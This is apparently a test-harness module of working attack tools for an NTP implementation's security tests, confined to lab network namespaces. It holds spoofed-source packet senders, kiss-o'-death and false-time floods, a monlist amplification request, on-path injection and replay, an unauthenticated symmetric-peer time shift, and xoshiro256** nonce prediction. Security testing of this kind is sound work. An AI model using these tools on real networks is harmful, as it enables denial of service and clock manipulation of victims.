# SPDX-License-Identifier: BSD-2-Clause
"""Attack tools for tests/interop/test_attacks.py (issue 11).

What is here:

* ``Lan``: one Ethernet segment -- a switch namespace holding bridge ``br0``
  -- with one namespace per host joined to it by a veth pair.  The switch
  namespace is where an on-path attacker sits: it sees every frame on the
  port toward a host and can inject frames there.
* ``Counters``: nftables named counters (packets and bytes at the IP layer)
  in one namespace, for "nothing was amplified" (bytes out <= bytes in).
* NTP packet builders (modes 1, 3, 4, KoD, mode 6 and mode 7 requests) and
  raw IPv4/UDP datagrams with any source address (``IP_HDRINCL``).
* ``recover_xoshiro``/``predict_nonces``: xoshiro256** (core/ntp_rand.c)
  is linear over GF(2) apart from its output scrambler, and the scrambler
  ``rotl(s1 * 5, 7) * 9`` is invertible, so every 64-bit output gives 64
  linear equations in the 256 state bits.  Four consecutive outputs
  determine the state (five or six when other draws come between them);
  the next outputs are then predicted exactly.

The module is also a script, run inside a namespace through capsh (like
ntplab_net's probe): ``python3 ntp_attack.py COMMAND JSON``.  Commands:
``spoof`` (send prebuilt datagrams with forged sources), ``srvflood``
(spoofed KoDs and server replies), ``mruflood`` (requests from many
spoofed sources), ``symattack`` (an unauthenticated symmetric active
"peer" claiming a false time), ``sniff`` (AF_PACKET capture of UDP/123 as
JSON lines) and ``onpath`` (sniff at the switch and inject forged or
replayed replies toward the victim).  Every command is bounded in time and
in packets, and sends only to the namespace's own segment.
"""

import json
import random
import re
import select
import socket
import struct
import sys
import time
from pathlib import Path

# also run as a script inside a namespace (below): the harness is the
# repository's top-level package realnet
sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from realnet import ntplab_net as nl  # noqa: E402

NTP_PORT = 123
MASK64 = (1 << 64) - 1

# NTP header (RFC 5905 §7.3): the same layout as ntplab_net.HDR
HDR = nl.HDR
MODE_ACTIVE, MODE_PASSIVE, MODE_CLIENT, MODE_SERVER, MODE_CONTROL, MODE_PRIVATE = 1, 2, 3, 4, 6, 7
LEAP_NOTSYNC = 3

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800


# --------------------------------------------------------------------------
# topology


class Lan:
    """One Ethernet segment: a switch namespace with bridge br0, and one
    namespace per host (eth0, addresses /24) joined to br0 by a veth whose
    switch end is named p-NAME.  Everything lives in namespaces of the
    lab, which deletes them (and so the veths) at cleanup."""

    def __init__(self, lab):
        self.lab = lab
        self.sw = lab.ns()
        nl.sh(["ip", "-n", self.sw, "link", "add", "br0", "type", "bridge"])
        nl.sh(["ip", "-n", self.sw, "link", "set", "br0", "up"])
        self.ns = {}
        self.addr = {}

    def host(self, name, addr, more=()):
        """A host namespace at addr (plus secondary addresses `more`)."""
        ns = self.lab.ns()
        port = ("p-" + name)[:15]
        nl.sh(["ip", "link", "add", port, "netns", self.sw, "type", "veth",
               "peer", "name", "eth0", "netns", ns])
        nl.sh(["ip", "-n", self.sw, "link", "set", port, "master", "br0"])
        nl.sh(["ip", "-n", self.sw, "link", "set", port, "up"])
        for a in (addr,) + tuple(more):
            nl.sh(["ip", "-n", ns, "addr", "add", "%s/24" % a, "dev", "eth0"])
        nl.sh(["ip", "-n", ns, "link", "set", "eth0", "up"])
        nl.wait_for(lambda: "LOWER_UP" in nl.sh(["ip", "-n", ns, "link", "show", "eth0"]).stdout,
                    "%s eth0 carrier" % name, tries=50, interval=0.1)
        self.ns[name] = ns
        self.addr[name] = addr
        return ns

    def route(self, name, prefix, via):
        """Route `prefix` from host `name` via address `via` (spoofed source
        ranges: the replies go to a host that drops them silently)."""
        nl.sh(["ip", "-n", self.ns[name], "route", "add", prefix, "via", via])

    def port(self, name):
        return ("p-" + name)[:15]


class Counters:
    """nftables named counters in one namespace (table inet ntplab_atk).
    rules: {name: (hook, match)} with hook "in" (input), "out" (output) or
    "pre" (prerouting, before the routing decision) and match an nft
    expression such as 'ip daddr 10.64.0.0/14 udp sport 123'.  Bytes are IP
    datagram lengths in both directions."""

    CHAINS = {"in": "cin", "out": "cout", "pre": "cpre"}

    TABLE = "ntplab_atk"

    def __init__(self, lab, ns, rules, name="nft"):
        self.ns = ns
        lines = ["table inet %s {" % self.TABLE]
        for cname in rules:
            lines.append("  counter %s { }" % cname)
        lines += ["  chain cin { type filter hook input priority -10; policy accept; }",
                  "  chain cout { type filter hook output priority -10; policy accept; }",
                  "  chain cpre { type filter hook prerouting priority -150; policy accept; }",
                  "}"]
        for cname, (hook, match) in rules.items():
            chain = self.CHAINS[hook]
            lines.append("add rule inet %s %s %s counter name %s" % (self.TABLE, chain, match,
                                                                    cname))
        path = lab.write("%s-%s.nft" % (name, ns), "\n".join(lines) + "\n")
        nl.sh(["ip", "netns", "exec", ns, "nft", "-f", str(path)])

    def read(self):
        """{name: (packets, bytes)}"""
        r = nl.sh(["ip", "netns", "exec", self.ns, "nft", "-j", "list", "counters", "table",
                   "inet", self.TABLE])
        out = {}
        for obj in json.loads(r.stdout).get("nftables", []):
            c = obj.get("counter")
            if c:
                out[c["name"]] = (c["packets"], c["bytes"])
        return out

    def drop(self, hook, match):
        """Add a drop rule (after the counters) to chain hook; returns its
        handle for undrop()."""
        r = nl.sh(["ip", "netns", "exec", self.ns, "nft", "--echo", "--handle", "add", "rule",
                   "inet", self.TABLE, self.CHAINS[hook]] + match.split() + ["drop"])
        m = re.search(r"# handle (\d+)", r.stdout)
        assert m, "nft did not echo the rule's handle: %r" % r.stdout
        return (hook, int(m.group(1)))

    def undrop(self, rule):
        hook, handle = rule
        nl.sh(["ip", "netns", "exec", self.ns, "nft", "delete", "rule", "inet", self.TABLE,
               self.CHAINS[hook], "handle", str(handle)])


def vm_rss_kib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise AssertionError("no VmRSS for pid %d" % pid)


# --------------------------------------------------------------------------
# NTP packets


def ntp64(unix_time):
    """Unix seconds (float) -> NTP 64-bit timestamp (era 0)."""
    return int((unix_time + nl.NTP_UNIX_OFFSET) * (1 << 32)) & MASK64


def short(seconds):
    """Seconds -> NTP short format (16.16)."""
    return int(seconds * 65536) & 0xFFFFFFFF


def ntp_packet(mode, leap=0, version=4, stratum=0, poll=6, precision=-20, rootdelay=0.0,
               rootdisp=0.0, refid=b"\0\0\0\0", ref=0, org=0, rec=0, xmt=0):
    if isinstance(refid, str):
        refid = refid.encode("ascii")
    return HDR.pack((leap << 6) | (version << 3) | mode, stratum, poll, precision,
                    short(rootdelay), short(rootdisp), refid.ljust(4, b"\0")[:4], ref, org, rec,
                    xmt)


def kod(code, org, xmt=None, poll=6):
    """A kiss-o'-death (RFC 5905 §7.4): mode 4, LI 3, stratum 0, refid = code."""
    xmt = xmt if xmt is not None else random.getrandbits(64) | 1
    return ntp_packet(MODE_SERVER, leap=LEAP_NOTSYNC, stratum=0, poll=poll, refid=code,
                      org=org, rec=xmt, xmt=xmt)


def false_reply(org, offset, stratum=1, refid="GPS", t=None):
    """A server reply (mode 4) claiming our clock is `offset` s ahead:
    synchronised, stratum 1, tiny root distance -- the most attractive
    reply an attacker can forge."""
    t = time.time() if t is None else t
    return ntp_packet(MODE_SERVER, stratum=stratum, poll=6, precision=-24, rootdelay=0.0,
                      rootdisp=0.0005, refid=refid, ref=ntp64(t + offset - 1), org=org,
                      rec=ntp64(t + offset), xmt=ntp64(t + offset + 20e-6))


def mode6_readvar(seq=1, assoc=0):
    """NTP control message READVAR (RFC 9327 §2): the 12-byte header, no
    data: what `ntpq -c rv` sends first."""
    return struct.pack("!BBHHHHH", (2 << 3) | MODE_CONTROL, 2, seq, 0, assoc, 0, 0)


def mode6_readstat(seq=1):
    """READSTAT (opcode 1): the association list (ntpq -c as)."""
    return struct.pack("!BBHHHHH", (2 << 3) | MODE_CONTROL, 1, seq, 0, 0, 0, 0)


def mode7_monlist():
    """ntpdc's MON_GETLIST_1 (implementation 3 XNTPD, request 42), padded to
    ntpdc's 48 bytes: the CVE-2013-5211 amplifier."""
    return struct.pack("!BBBBHH", (2 << 3) | MODE_PRIVATE, 0, 3, 42, 0, 0) + bytes(40)


def field_u64(payload, name):
    """Raw 64-bit timestamp field of a 48-byte NTP header."""
    off = {"ref": 16, "org": 24, "rec": 32, "xmt": 40}[name]
    return struct.unpack_from("!Q", payload, off)[0]


# --------------------------------------------------------------------------
# raw IPv4/UDP


def ipv4_udp(src, dst, sport, dport, payload, ttl=64, checksum=True):
    """An IPv4 datagram for a raw socket.  With IP_HDRINCL the kernel fills
    in total length, ID and header checksum; the UDP checksum is ours (0 =
    none, legal in IPv4)."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 8 + len(payload), 0, 0x4000, ttl, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    csum = udp_checksum(src, dst, sport, dport, payload) if checksum else 0
    return ip + struct.pack("!HHHH", sport, dport, 8 + len(payload), csum) + payload


def _ones_sum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def udp_checksum(src, dst, sport, dport, payload):
    n = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, n)
    c = ~_ones_sum(pseudo + struct.pack("!HHHH", sport, dport, n, 0) + payload) & 0xFFFF
    return c or 0xFFFF


def ip_header_checksum(hdr):
    return ~_ones_sum(hdr) & 0xFFFF


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return s


def send_raw(s, datagram, dst):
    """sendto with a bounded retry on a full socket buffer (ENOBUFS)."""
    for _ in range(200):
        try:
            s.sendto(datagram, (dst, 0))
            return True
        except (BlockingIOError, OSError) as e:
            if getattr(e, "errno", None) not in (105, 11):  # ENOBUFS, EAGAIN
                raise
            time.sleep(0.0005)
    return False


def addr_range(base, count):
    """count consecutive IPv4 addresses from base, as strings."""
    b = struct.unpack("!I", socket.inet_aton(base))[0]
    return [socket.inet_ntoa(struct.pack("!I", b + i)) for i in range(count)]


# --------------------------------------------------------------------------
# xoshiro256** state recovery (core/ntp_rand.c)

INV5 = pow(5, -1, 1 << 64)
INV9 = pow(9, -1, 1 << 64)


def _rotl(x, k):
    return ((x << k) | (x >> (64 - k))) & MASK64


def xoshiro_next(s):
    """One step of core/ntp_rand.c's ntp_rand_u64 on a list of 4 words;
    returns the output."""
    result = (_rotl((s[1] * 5) & MASK64, 7) * 9) & MASK64
    t = (s[1] << 17) & MASK64
    s[2] ^= s[0]
    s[3] ^= s[1]
    s[1] ^= s[2]
    s[0] ^= s[3]
    s[2] ^= t
    s[3] = _rotl(s[3], 45)
    return result


def unscramble(out):
    """The s[1] word that produced output `out` (inverse of rotl(s1*5,7)*9)."""
    x = (out * INV9) & MASK64
    x = ((x >> 7) | (x << 57)) & MASK64
    return (x * INV5) & MASK64


def _sym_step(s):
    """xoshiro's state update on symbolic words: a word is a list of 64
    bit masks over the 256 unknown initial state bits (bit i of word w is
    unknown 64*w + i)."""
    s0, s1, s2, s3 = s
    t = [0] * 17 + s1[:47]                        # s1 << 17
    s2 = [a ^ b for a, b in zip(s2, s0)]
    s3 = [a ^ b for a, b in zip(s3, s1)]
    s1 = [a ^ b for a, b in zip(s1, s2)]
    s0 = [a ^ b for a, b in zip(s0, s3)]
    s2 = [a ^ b for a, b in zip(s2, t)]
    s3 = [s3[(i - 45) % 64] for i in range(64)]  # rotl 45
    return [s0, s1, s2, s3]


def _solve_gf2(rows, nvars=256):
    """Gaussian elimination over GF(2); rows are (mask, value).  Returns the
    solution as an int (bit i = unknown i) or None when the system is
    inconsistent or not of full rank."""
    pivots = {}  # pivot bit -> (mask, value)
    for mask, val in rows:
        for bit, (pm, pv) in pivots.items():
            if mask >> bit & 1:
                mask ^= pm
                val ^= pv
        if mask == 0:
            if val:
                return None
            continue
        bit = mask.bit_length() - 1
        for b2, (pm, pv) in list(pivots.items()):
            if pm >> bit & 1:
                pivots[b2] = (pm ^ mask, pv ^ val)
        pivots[bit] = (mask, val)
    if len(pivots) < nvars:
        return None
    x = 0
    for bit, (mask, val) in pivots.items():
        if val:
            x |= 1 << bit
    return x


def recover_xoshiro(outputs, positions):
    """State (4 words) before the output at positions[0], given outputs at
    the listed stream positions (positions[0] == 0, increasing); None if
    they do not determine one consistent state."""
    sym = [[1 << (64 * w + i) for i in range(64)] for w in range(4)]
    rows = []
    pos = 0
    want = dict(zip(positions, outputs))
    last = positions[-1]
    while pos <= last:
        if pos in want:
            s1 = unscramble(want[pos])
            rows += [(sym[1][i], (s1 >> i) & 1) for i in range(64)]
        sym = _sym_step(sym)
        pos += 1
    x = _solve_gf2(rows)
    if x is None:
        return None
    state = [(x >> (64 * w)) & MASK64 for w in range(4)]
    check = list(state)
    outs = {}
    for p in range(last + 1):
        outs[p] = xoshiro_next(check)
    if any(outs[p] != v for p, v in want.items()):
        return None
    return state


def predict_nonces(nonces, fits=(4, 5, 6), max_gap=3, lookahead=4):
    """Try to predict the later nonces from the first few alone, as an
    attacker who saw a handful of the victim's requests would.  The victim
    draws other numbers between nonces (poll jitter), so every pattern of
    gaps of 1..max_gap outputs is tried, using the first 4, 5 or 6 nonces
    (any 4 values fit *some* state when taken as consecutive outputs; a
    hypothesis only counts when it predicts what came next).  Returns
    (predicted, details): predicted is the largest number of the nonces
    after the ones used that a hypothesis predicts, in order."""
    import itertools
    best = (0, {"used": None, "gaps": None, "of": max(0, len(nonces) - fits[0])})
    for fit in fits:
        if len(nonces) <= fit:
            break
        first, later = nonces[:fit], nonces[fit:]
        for gaps in itertools.product(range(1, max_gap + 1), repeat=fit - 1):
            positions = [0]
            for g in gaps:
                positions.append(positions[-1] + g)
            state = recover_xoshiro(first, positions)
            if state is None:
                continue
            s = list(state)
            stream = [xoshiro_next(s) for _ in range(positions[-1] + 1 +
                                                     (len(later) + 1) * (max_gap + lookahead))]
            idx = positions[-1] + 1
            hit = 0
            for n in later:
                try:
                    j = stream.index(n, idx, idx + max_gap + lookahead)
                except ValueError:
                    break
                hit += 1
                idx = j + 1
            if hit > best[0]:
                best = (hit, {"used": fit, "gaps": list(gaps), "of": len(later)})
            if hit == len(later):
                return best
    return best


# --------------------------------------------------------------------------
# script commands (run inside a namespace)


def _cmd_spoof(a):
    """{"datagrams": [[src, sport, dst, dport, hex], ...], "repeat": N,
    "interval": s}: send them all, N times."""
    s = raw_socket()
    sent = nbytes = 0
    dgrams = [(ipv4_udp(src, dst, sp, dp, bytes.fromhex(h)), dst, len(h) // 2)
              for src, sp, dst, dp, h in a["datagrams"]]
    for r in range(int(a.get("repeat", 1))):
        for d, dst, plen in dgrams:
            if send_raw(s, d, dst):
                sent += 1
                nbytes += plen
        if a.get("interval"):
            time.sleep(float(a["interval"]))
    return {"sent": sent, "payload_bytes": nbytes}


def _cmd_srvflood(a):
    """Spoofed server-mode packets from src:123 to dst, cycling over dports.

    {"src", "dst", "dports", "count", "pps", "kinds", "seed"}: kinds cycle
    over "RATE"/"DENY"/"RSTR" (a KoD with that code), "reply" (a
    synchronised stratum-1 reply claiming +1000 s) and "interleaved" (a
    reply whose origin and receive timestamps are both set and random, as
    an interleaved-mode answer looks).  Origins are zero for every other
    packet and random otherwise: an off-path attacker does not know the
    victim's nonce."""
    s = raw_socket()
    rng = random.Random(a.get("seed", 11))
    kinds = a.get("kinds", ["RATE", "DENY"])
    dports = [int(p) for p in a.get("dports", [NTP_PORT])]
    count, pps = int(a["count"]), float(a.get("pps", 20000))
    t0 = time.monotonic()
    sent = nbytes = 0
    for i in range(count):
        kind = kinds[i % len(kinds)]
        org = 0 if i % 2 == 0 else rng.getrandbits(64) | 1
        if kind == "reply":
            pkt = false_reply(org, 1000.0)
        elif kind == "interleaved":
            pkt = bytearray(false_reply(rng.getrandbits(64) | 1, 1000.0))
            struct.pack_into("!Q", pkt, 32, rng.getrandbits(64) | 1)
            pkt = bytes(pkt)
        else:
            pkt = kod(kind, org, xmt=rng.getrandbits(64) | 1, poll=rng.choice((10, 14, 17)))
        dp = dports[(i // 2) % len(dports)]
        if send_raw(s, ipv4_udp(a["src"], a["dst"], NTP_PORT, dp, pkt), a["dst"]):
            sent += 1
            nbytes += len(pkt)
        ahead = t0 + (i + 1) / pps - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    return {"sent": sent, "payload_bytes": nbytes, "seconds": round(time.monotonic() - t0, 3)}


def _cmd_mruflood(a):
    """Flush a server's rate-limit table and reflect at probe addresses.

    {"dst", "churn_base", "churn": N, "probe_base", "probes": P,
     "probe_interval": s, "seconds": T, "pps": churn rate}: for T seconds
    send client requests from N distinct spoofed churn sources (each
    once per pass, cycling) at `pps`, and from each of P probe sources one
    request every probe_interval s.  A per-source limiter answers a probe
    source once (plus a KoD per average headway); a table that the churn
    flushes answers every probe request."""
    s = raw_socket()
    dst = a["dst"]
    churn = addr_range(a["churn_base"], int(a["churn"]))
    probes = addr_range(a["probe_base"], int(a["probes"]))
    rng = random.Random(7)
    req = nl.client_request(rng.getrandbits(64))
    sport = 40000
    churn_dg = [ipv4_udp(src, dst, sport, NTP_PORT, req, checksum=False) for src in churn]
    probe_dg = [ipv4_udp(src, dst, sport, NTP_PORT, req, checksum=False) for src in probes]
    T, pps, pint = float(a["seconds"]), float(a["pps"]), float(a["probe_interval"])
    t0 = time.monotonic()
    next_probe = t0
    ci = sent_churn = sent_probe = 0
    batch = 64
    while True:
        now = time.monotonic()
        if now - t0 >= T:
            break
        if now >= next_probe:
            for d in probe_dg:
                if send_raw(s, d, dst):
                    sent_probe += 1
            next_probe += pint
        due = int((now - t0) * pps) - sent_churn
        if due <= 0:
            time.sleep(0.0005)
            continue
        for _ in range(min(due, batch)):
            if send_raw(s, churn_dg[ci], dst):
                sent_churn += 1
            ci = (ci + 1) % len(churn_dg)
    return {"churn_sent": sent_churn, "churn_distinct": min(sent_churn, len(churn)),
            "probe_sent": sent_probe, "seconds": round(time.monotonic() - t0, 3),
            "request_bytes": len(req)}


def _emit(obj):
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


def _cmd_symattack(a):
    """An unauthenticated symmetric active "peer" (no spoofing: it uses its
    own addresses) that claims to be `offset` s ahead at stratum 1.

    {"victim", "addrs": [...], "offset", "seconds", "poll", "stagger"}:
    from each address send one mode 1 packet (which mobilises a passive
    association at the victim), then answer every packet the victim sends
    to that address with a correct symmetric packet -- origin = the
    victim's transmit timestamp, receive/transmit = our time + offset -- so
    that each of the victim's polls yields a sample of +offset.  Prints one
    JSON line per packet."""
    victim, off = a["victim"], float(a["offset"])
    poll = int(a.get("poll", 6))
    socks = []
    for addr in a["addrs"]:
        so = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        so.bind((addr, NTP_PORT))
        socks.append(so)
    state = {so: {"heard": False, "started": None, "samples": 0, "answered": -1e9}
             for so in socks}
    t_end = time.monotonic() + float(a["seconds"])
    stagger = float(a.get("stagger", 0.0))

    pad0, pad_step = float(a.get("pad", 0.02)), float(a.get("pad_step", 0.005))

    def send(so, org, t_dst=None):
        """rec is t_dst + offset + pad/2 and xmt now + offset - pad/2: the
        offset stays `offset`, the delay grows by pad.  pad shrinks with
        every sample, so each new sample has the least delay yet and the
        victim's clock filter passes it on at once (a filter keeps an
        older sample with a smaller delay)."""
        now = time.time()
        st = state[so]
        pad = max(0.0, pad0 - pad_step * st["samples"]) if t_dst is not None else 0.0
        rec = ntp64(t_dst + off + pad / 2) if t_dst is not None else 0
        pkt = ntp_packet(MODE_ACTIVE, stratum=1, poll=poll, precision=-24, rootdelay=0.0,
                         rootdisp=0.0005, refid="GPS", ref=ntp64(now + off - 1), org=org,
                         rec=rec, xmt=ntp64(now + off - pad / 2))
        so.sendto(pkt, (victim, NTP_PORT))
        if t_dst is not None:
            st["samples"] += 1
        _emit({"t": now, "from": so.getsockname()[0], "sent": "mode1", "org": "%016x" % org,
               "pad": pad})

    t_start = time.monotonic()
    while time.monotonic() < t_end:
        now_m = time.monotonic()
        for k, so in enumerate(socks):
            st = state[so]
            if st["started"] is None and now_m >= t_start + k * stagger:
                send(so, 0)
                st["started"] = now_m
            elif not st["heard"] and st["started"] is not None and now_m - st["started"] > 5:
                send(so, 0)  # nothing heard yet: knock again
                st["started"] = now_m
        r, _, _ = select.select(socks, [], [], 0.1)
        for so in r:
            buf, src = so.recvfrom(2048)
            t_dst = time.time()
            d = nl.decode(buf)
            if d is None or src[0] != victim:
                continue
            st = state[so]
            st["heard"] = True
            _emit({"t": t_dst, "to": so.getsockname()[0], "got": "mode%d" % d["mode"],
                   "org": "%016x" % d["org"], "xmt": "%016x" % d["xmt"]})
            # at most one answer a second: a victim that answers every
            # mode 1 statelessly (nopeer) would otherwise ping-pong with us
            t_m = time.monotonic()
            if d["mode"] in (MODE_PASSIVE, MODE_ACTIVE) and t_m - st["answered"] >= 1.0:
                st["answered"] = t_m
                send(so, d["xmt"], t_dst)
    return None


def _packet_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    return s


def _parse_frame(frame):
    """Ethernet/IPv4/UDP port 123 -> dict, or None."""
    if len(frame) < 14 + 20 + 8 or struct.unpack_from("!H", frame, 12)[0] != ETH_P_IP:
        return None
    ihl = (frame[14] & 0x0F) * 4
    if frame[14 + 9] != 17:
        return None
    u = 14 + ihl
    sport, dport, ulen = struct.unpack_from("!HHH", frame, u)
    if NTP_PORT not in (sport, dport):
        return None
    return {"src": socket.inet_ntoa(frame[26:30]), "dst": socket.inet_ntoa(frame[30:34]),
            "sport": sport, "dport": dport, "payload": frame[u + 8:u + ulen],
            "eth_dst": frame[0:6], "eth_src": frame[6:12]}


def _cmd_sniff(a):
    """{"iface", "seconds", "max"}: one JSON line per UDP/123 datagram seen
    on iface (both directions), with the payload in hex."""
    s = _packet_socket(a["iface"])
    t_end = time.monotonic() + float(a["seconds"])
    n, cap = 0, int(a.get("max", 100000))
    _emit({"ready": True})
    while time.monotonic() < t_end and n < cap:
        r, _, _ = select.select([s], [], [], 0.2)
        if not r:
            continue
        frame, _ = s.recvfrom(65535)
        f = _parse_frame(frame)
        if f is None:
            continue
        n += 1
        _emit({"t": time.time(), "src": f["src"], "dst": f["dst"], "sport": f["sport"],
               "dport": f["dport"], "payload": f["payload"].hex()})
    return None


def _frame(eth_dst, eth_src, src, dst, sport, dport, payload):
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 8 + len(payload), 0x4242, 0x4000,
                               64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst)))
    struct.pack_into("!H", ip, 10, ip_header_checksum(bytes(ip)))
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload),
                      udp_checksum(src, dst, sport, dport, payload))
    return eth_dst + eth_src + struct.pack("!H", ETH_P_IP) + bytes(ip) + udp + payload


def _cmd_onpath(a):
    """An on-path attacker at the switch: sniffs the victim's port and
    injects frames into it (toward the victim).

    {"iface", "victim", "server", "silent", "offset", "seconds", "plan"}:
    plan is a list of groups done in order, each once, all of a group's
    steps on one trigger:
      "zero_org", "wrong_org", "right_org": at the victim's next request to
          `silent` (a configured server that never answers, so the request
          stays outstanding), forge its reply with origin 0 / a random
          origin / the request's own nonce (what only an on-path attacker
          can do, and what no origin check can stop);
      "replay", "answered": at the server's next reply to the victim, send
          the same datagram again at once / forge another reply to the same
          request (origin = that request's nonce) after the genuine one.
    Forged replies claim `offset` s at stratum 1.  Prints one JSON line per
    injected frame."""
    s = _packet_socket(a["iface"])
    victim, server, silent = a["victim"], a["server"], a.get("silent")
    off = float(a["offset"])
    plan = [list(g) for g in a["plan"]]
    t_end = time.monotonic() + float(a["seconds"])
    _emit({"ready": True})
    while plan and time.monotonic() < t_end:
        r, _, _ = select.select([s], [], [], 0.2)
        if not r:
            continue
        frame = s.recv(65535)
        f = _parse_frame(frame)
        if f is None or len(f["payload"]) < 48:
            continue
        group, p = plan[0], f["payload"]
        mode = p[0] & 7
        to_silent = f["src"] == victim and f["dst"] == silent and mode == MODE_CLIENT
        from_server = f["src"] == server and f["dst"] == victim and mode == MODE_SERVER
        if group[0] in ("zero_org", "wrong_org", "right_org") and to_silent:
            for step in group:
                org = {"zero_org": 0, "wrong_org": random.getrandbits(64) | 1,
                       "right_org": field_u64(p, "xmt")}[step]
                s.send(_frame(f["eth_src"], f["eth_dst"], silent, victim, NTP_PORT, f["sport"],
                              false_reply(org, off)))
                _emit({"t": time.time(), "injected": step, "request_xmt": p[40:48].hex(),
                       "org": "%016x" % org})
                time.sleep(0.05)
            plan.pop(0)
        elif group[0] in ("replay", "answered") and from_server:
            for step in group:
                if step == "replay":
                    # the same datagram again; rebuilt, because a frame seen
                    # on a veth may carry a partial (offloaded) UDP checksum
                    s.send(_frame(f["eth_dst"], f["eth_src"], server, victim, NTP_PORT,
                                  f["dport"], bytes(p)))
                    _emit({"t": time.time(), "injected": "replay", "xmt": p[40:48].hex()})
                else:
                    time.sleep(0.05)  # the genuine reply is delivered first
                    org = field_u64(p, "org")
                    s.send(_frame(f["eth_dst"], f["eth_src"], server, victim, NTP_PORT,
                                  f["dport"], false_reply(org, off)))
                    _emit({"t": time.time(), "injected": "answered", "org": "%016x" % org})
            plan.pop(0)
    _emit({"done": not plan, "left": plan})
    return None


COMMANDS = {"spoof": _cmd_spoof, "srvflood": _cmd_srvflood, "mruflood": _cmd_mruflood,
            "symattack": _cmd_symattack, "sniff": _cmd_sniff, "onpath": _cmd_onpath}


# --------------------------------------------------------------------------
# test-side helpers


def run_tool(lab, ns, cmd, args, timeout=60):
    """Run a command of this script in ns (capsh, bounded); returns its JSON."""
    r = nl.run([nl.PYTHON, Path(__file__).resolve(), cmd, json.dumps(args)], ns=ns,
               timeout=timeout)
    assert r.returncode == 0, "ntp_attack %s failed (rc %d): %s %s" % (
        cmd, r.returncode, r.stdout[-1000:], r.stderr[-2000:])
    return json.loads(r.stdout.strip().splitlines()[-1])


def spawn_tool(lab, ns, cmd, args, name):
    """Start a long-running command of this script in ns; it prints JSON
    lines to its log (lab.path(name + '.out'))."""
    p = lab.spawn(name, [nl.PYTHON, Path(__file__).resolve(), cmd, json.dumps(args)], ns=ns,
                  comm="python3")
    return p


def tool_lines(proc):
    out = []
    for line in proc.log_text().splitlines():
        line = line.strip()
        if line.startswith("{"):
            try:
                out.append(json.loads(line))
            except ValueError:
                pass
    return out


def wait_ready(proc, what):
    nl.wait_for(lambda: any(x.get("ready") for x in tool_lines(proc)) or not proc.alive(),
                "%s ready" % what, tries=100, interval=0.1, last=proc.log_text)
    assert proc.alive(), "%s exited: %s" % (what, proc.log_text()[-2000:])


def _main(argv):
    res = COMMANDS[argv[0]](json.loads(argv[1]) if len(argv) > 1 else {})
    if res is not None:
        _emit(res)
    return 0


if __name__ == "__main__":
    import atexit
    atexit.unregister(nl._atexit_cleanup)  # a tool owns no namespaces or daemons
    sys.exit(_main(sys.argv[1:]))
